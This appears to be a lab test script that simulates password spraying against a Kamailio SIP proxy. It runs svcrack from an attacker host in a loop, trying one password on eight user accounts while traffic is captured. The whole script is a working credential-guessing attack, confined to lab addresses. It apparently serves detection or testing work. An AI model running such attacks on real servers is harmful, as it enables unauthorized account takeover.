# One password tried on eight accounts (svcrack in a loop, with one word).
hosts proxy mallory
outside mallory 198.18.0.66 proxy
kamailio_start proxy
echo welcome1 >"$LAB_TMP/words"
tap
for user in anna bert carl dora emil fred gina hugo; do
    vicious mallory svcrack -P 5061 -x 198.18.0.66 -u "$user" -d "$LAB_TMP/words" --domain lab.example 10.9.0.10
done
PACKED=yes
